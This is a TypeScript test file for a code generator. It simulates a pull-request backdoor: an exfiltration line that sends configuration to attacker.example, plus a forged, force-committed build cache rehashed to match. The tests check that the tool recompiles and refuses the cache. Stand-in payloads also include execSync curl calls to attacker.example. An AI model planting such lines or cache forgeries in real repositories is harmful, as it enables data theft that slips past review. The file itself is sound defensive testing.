import { execFileSync, spawnSync } from "child_process";
import { createHash } from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { compileOutput, generate } from "../../../codegen";
import { nativeApiBuild } from "../../../codegen/typecheck/native-api";
import { ensureGeneratedIsFresh } from "../../../stacks/compiled/generated-freshness";
import { fixtureProject, REPO_ROOT } from "./harness";

/**
 * The backdoor of issue 21: a pull request edits generated/ (an exfiltration call in a rule's Rule and Action) and
 * commits, with `git add -f`, a .cache/codegen/rules.json forged to claim that the sources compile to that output.
 * `generate --check` and synth's staleness check must compile the sources, not believe the cache, in a fresh clone,
 * in CI and out of it; `generate` must ignore a tracked cache and say so.
 */
const CLI = path.join(REPO_ROOT, "codegen", "bin.js");
const EXFILTRATION = 'require("https").get("https://attacker.example/?s=" + encodeURIComponent(JSON.stringify(configuration)));';

function git(cwd: string, ...args: string[]): string {
  return execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false", ...args], { cwd, encoding: "utf8" });
}

/** Runs `npm run generate` (node codegen/bin.js) on a project, with CI set or not. */
function runCli(root: string, args: string[], ci: boolean) {
  const env: NodeJS.ProcessEnv = { ...process.env };
  if (ci) env.CI = "true";
  else delete env.CI;
  const r = spawnSync(process.execPath, [CLI, ...args, "--root", root], { encoding: "utf8", env, timeout: 120_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");

describe("a committed cache forged to match a backdoored generated/", () => {
  let scratch: string;
  let origin: string;
  let clone: string;

  beforeAll(async () => {
    scratch = fs.mkdtempSync(path.join(os.tmpdir(), "codegen-backdoor-"));
    origin = fixtureProject("inlining");
    fs.writeFileSync(path.join(origin, ".gitignore"), "node_modules\n.cache/\n");
    // The honest compile, which writes generated/ and the rule cache (the library API reads no `CI`: the command does).
    await generate({ root: origin });
    // The forgery: the exfiltration call in both scripts, and the cache's hashes of them changed to match.
    const cacheFile = path.join(origin, ".cache", "codegen", "rules.json");
    const cache = JSON.parse(fs.readFileSync(cacheFile, "utf8")) as { rules: Record<string, { rule: { meta: { name: string }; scriptSha256: string; actionScriptSha256: string } }> };
    for (const record of Object.values(cache.rules)) {
      const name = record.rule.meta.name;
      const rule = path.join(origin, "generated", "rules", `${name}.js`);
      const action = path.join(origin, "generated", "actions", `${name}.js`);
      const ruleText = fs.readFileSync(rule, "utf8").replace(/\{\n/, `{\n  ${EXFILTRATION}\n`);
      const actionText = fs.readFileSync(action, "utf8").replace(/(exports\.onExecutePostLogin = async[^{]*\{\n)/, `$1  ${EXFILTRATION}\n`);
      expect(actionText).toContain(EXFILTRATION);
      fs.writeFileSync(rule, ruleText);
      fs.writeFileSync(action, actionText);
      record.rule.scriptSha256 = sha256(ruleText);
      record.rule.actionScriptSha256 = sha256(actionText);
    }
    fs.writeFileSync(cacheFile, JSON.stringify(cache));
    git(origin, "init", "-q");
    git(origin, "add", "-A");
    git(origin, "add", "-f", ".cache/codegen");
    git(origin, "commit", "-q", "-m", "backdoor");
    clone = path.join(scratch, "clone");
    git(scratch, "clone", "-q", origin, clone);
    fs.symlinkSync(path.join(REPO_ROOT, "node_modules"), path.join(clone, "node_modules"), "dir");
  }, 180_000);

  afterAll(() => {
    fs.rmSync(scratch, { recursive: true, force: true });
    fs.rmSync(origin, { recursive: true, force: true });
  });

  it("is a working forgery: an untracked copy of it makes a cached compile return the backdoor", async () => {
    // The same files without git: the cache is this machine's as far as anyone can tell, and generate believes it.
    // (Guards the test itself: the cases below fail only because the compiler distrusts the cache.)
    const untracked = path.join(scratch, "untracked");
    fs.cpSync(clone, untracked, { recursive: true, verbatimSymlinks: true, filter: (f) => path.basename(f) !== ".git" });
    const output = await compileOutput({ root: untracked });
    expect(output.fromCache).toBe(true);
    expect([...output.files.values()].some((f) => f.includes(EXFILTRATION))).toBe(true);
  });

  it.each([false, true])("fails `generate --check` in a fresh clone with exit 1 and a diff (CI set: %s)", (ci) => {
    const r = runCli(clone, ["--check"], ci);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("changed:  generated/actions/greeting.js");
    expect(r.stderr).toContain(`-  ${EXFILTRATION}`);
    expect(r.stderr).toContain("generated/ does not match rules-src/");
    expect(r.stdout).not.toContain("up to date");
    expect(fs.existsSync(path.join(clone, ".cache", "codegen-v8"))).toBe(false); // nor V8 code cache read or written
  }, 120_000);

  it("fails synth's staleness check with the diff", async () => {
    await expect(ensureGeneratedIsFresh(path.join(clone, "generated"))).rejects.toThrow(/is stale[\s\S]*attacker\.example[\s\S]*npm run generate/);
  }, 120_000);

  it("makes `generate` warn that .cache/ is tracked, ignore it and write what the sources compile to", () => {
    const r = runCli(clone, [], false);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/warning: \.cache\/ is tracked by git \(.*\.cache\/codegen\/rules\.json.*\).*git rm -r --cached \.cache/);
    expect(r.stdout).toMatch(/compiled 1 of 1/);
    expect(fs.readFileSync(path.join(clone, "generated", "actions", "greeting.js"), "utf8")).not.toContain("attacker.example");
    // The tracked cache is left as it came (not rewritten: it is the pull request's file, for the reviewer to remove).
    expect(git(clone, "status", "--porcelain", "--", ".cache")).toBe("");
  }, 120_000);
});

describe("the build of the native compiler's API client in .cache/ (code the compiler runs)", () => {
  const packageDir = path.dirname(require.resolve("typescript-native/package.json"));
  const version = (JSON.parse(fs.readFileSync(path.join(packageDir, "package.json"), "utf8")) as { version: string }).version;
  let project: string;
  let forged: string;
  beforeEach(() => {
    project = fs.mkdtempSync(path.join(os.tmpdir(), "codegen-native-build-"));
    forged = path.join(project, ".cache", "typescript-native-api", version);
    for (const entry of ["dist/api/sync/api.js", "dist/ast/index.js"]) {
      fs.mkdirSync(path.dirname(path.join(forged, entry)), { recursive: true });
      fs.writeFileSync(path.join(forged, entry), 'require("child_process").execSync("curl https://attacker.example");\n');
    }
    fs.writeFileSync(path.join(forged, "complete"), "");
    git(project, "init", "-q");
  });
  afterEach(() => fs.rmSync(project, { recursive: true, force: true }));

  const built = (dir: string) => fs.readFileSync(path.join(dir, "dist", "api", "sync", "api.js"), "utf8");

  it("is not run when this machine did not build it (no manifest), nor when a built file was changed: it is built again", () => {
    const dir = withCi(undefined, () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
    expect(dir).toBe(forged);
    expect(built(dir)).not.toContain("attacker.example");
    expect(built(dir)).toContain("class ");
    // Its own build verifies and is used as it is.
    const again = withCi(undefined, () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
    expect(again).toBe(forged);
    // A file of it changed afterwards (the manifest still lists the old hash): built again.
    fs.appendFileSync(path.join(forged, "dist", "ast", "index.js"), '\nrequire("child_process").execSync("curl https://attacker.example");\n');
    withCi(undefined, () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
    expect(fs.readFileSync(path.join(forged, "dist", "ast", "index.js"), "utf8")).not.toContain("attacker.example");
  }, 60_000);

  it("is not used, but made afresh elsewhere, when git tracks it", () => {
    git(project, "add", "-f", ".cache");
    const dir = withCi(undefined, () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
    expect(dir.startsWith(project)).toBe(false);
    expect(built(dir)).not.toContain("attacker.example");
    expect(built(dir)).toContain("class ");
  }, 60_000);

  it("is not used in CI", () => {
    const dir = withCi("true", () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
    expect(dir.startsWith(project)).toBe(false);
    expect(built(dir)).not.toContain("attacker.example");
  }, 60_000);
});

function withCi<T>(value: string | undefined, run: () => T): T {
  const saved = process.env.CI;
  if (value === undefined) delete process.env.CI;
  else process.env.CI = value;
  try {
    return run();
  } finally {
    if (saved === undefined) delete process.env.CI;
    else process.env.CI = saved;
  }
}
